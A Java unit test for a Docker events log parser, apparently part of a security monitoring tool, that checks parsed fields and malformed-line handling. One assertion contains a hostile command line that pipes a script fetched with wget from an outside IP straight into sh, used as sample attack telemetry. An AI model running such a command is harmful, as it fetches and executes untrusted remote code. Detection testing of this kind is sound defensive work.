package dev.minewarden.ingest.docker;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minewarden.core.event.Event;
import dev.minewarden.core.event.LogSource;
import dev.minewarden.ingest.CollectingSink;
import org.junit.jupiter.api.Test;

class DockerEventsFormatTest {
  private final DockerEventsFormat format = new DockerEventsFormat();

  @Test
  void parse_eventStream() {
    CollectingSink p = CollectingSink.parseResource(format, "fixtures/docker-events.ndjson");

    assertThat(p.malformed).isEmpty();
    assertThat(p.events).hasSize(5);
    Event pull = p.events.get(0);
    assertThat(pull.logSource()).isEqualTo(LogSource.exact("docker", null, "daemon"));
    assertThat(pull.has("Image")).isFalse();
    Event create = p.events.get(1);
    assertThat(create.get("Type")).isEqualTo("container");
    assertThat(create.get("Action")).isEqualTo("create");
    assertThat(create.get("Actor.Attributes.image")).isEqualTo("alpine:3.19");
    assertThat(create.get("Actor.Attributes.name")).isEqualTo("sweet_kepler");
    assertThat(create.get("Image")).isEqualTo("alpine:3.19");
    assertThat(create.timestampMillis()).isEqualTo(1714644001532L);
    assertThat(p.events.get(2).get("Actor.Attributes.type")).isEqualTo("bridge");
    Event exec = p.events.get(4);
    assertThat(exec.get("event.action")).isEqualTo("exec_create");
    assertThat(exec.get("CommandLine")).isEqualTo("sh -c wget -q -O- http://198.51.100.7/x.sh | sh");
    assertThat(exec.has("Privileged")).isFalse();
  }

  @Test
  void parse_secondsOnlyTimeAndForeignLines() {
    var p = CollectingSink.parse(format, "{\"Type\":\"container\",\"Action\":\"die\",\"Actor\":{\"ID\":\"a\","
        + "\"Attributes\":{\"exitCode\":\"137\"}},\"time\":1714644000}\n[1,2]\nnot json\n");

    assertThat(p.events).hasSize(1);
    assertThat(p.events.get(0).timestampMillis()).isEqualTo(1714644000000L);
    assertThat(p.malformed).extracting(CollectingSink.Malformed::line).containsExactly(2L, 2L, 3L);
  }
}
